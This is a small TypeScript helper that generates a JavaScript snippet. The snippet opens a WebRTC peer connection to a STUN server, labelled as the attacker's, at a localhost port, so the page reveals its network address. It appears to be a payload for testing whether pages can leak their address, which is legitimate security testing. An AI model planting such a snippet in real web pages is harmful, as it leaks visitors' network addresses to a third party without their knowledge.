/** Asks the attacker for this page's address, by WebRTC; `peer` makes the connection's class. */
export const stun = (peer = 'RTCPeerConnection', server = `{urls:'stun:127.0.0.1:'+P}`): string =>
  `const p=new (${peer})({iceServers:[${server}]});p.createDataChannel('x');await p.setLocalDescription(await p.createOffer());await new Promise(r=>setTimeout(r,500))`;
